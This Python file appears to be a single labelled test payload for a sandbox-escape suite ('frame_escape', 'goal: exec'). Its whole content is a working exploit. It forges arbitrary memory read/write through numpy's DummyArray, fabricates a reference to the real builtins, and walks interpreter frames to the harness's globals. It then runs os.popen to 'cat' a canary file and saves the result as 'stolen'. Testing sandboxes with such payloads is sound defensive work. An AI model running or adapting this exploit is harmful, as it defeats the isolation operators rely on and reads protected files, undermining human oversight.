# class: frame_escape
# technique: source text executed by builtins['exec'] follows sys._getframe().f_back to the harness's globals (builtins dict forged from raw memory with numpy.lib.stride_tricks.DummyArray)
# goal: exec
import numpy as np
import pandas as pd
from numpy.lib.stride_tricks import DummyArray


def view(address, size):
    return np.asarray(DummyArray({"data": (address, False), "shape": (size,), "typestr": "|u1", "version": 3}))


def peek(address):
    return int(view(address, 8).view(np.uint64)[0])


def poke(address, value):
    view(address, 8).view(np.uint64)[0] = value


def object_at(address):
    holder = [None]
    items = peek(id(holder) + 24)
    poke(address, peek(address) + 1)
    poke(items, address)
    return holder[0]


builtin = object_at(peek(id(view) + 24))

source = "import sys\nf = sys._getframe(0)\nwhile f.f_back is not None:\n    f = f.f_back\nout = f.f_globals['os'].popen(cmd).read()"
scope = {"cmd": "cat {{CANARY_FILE}}"}
builtin["exec"](source, scope)
df = pd.DataFrame({"stolen": [scope["out"]]})
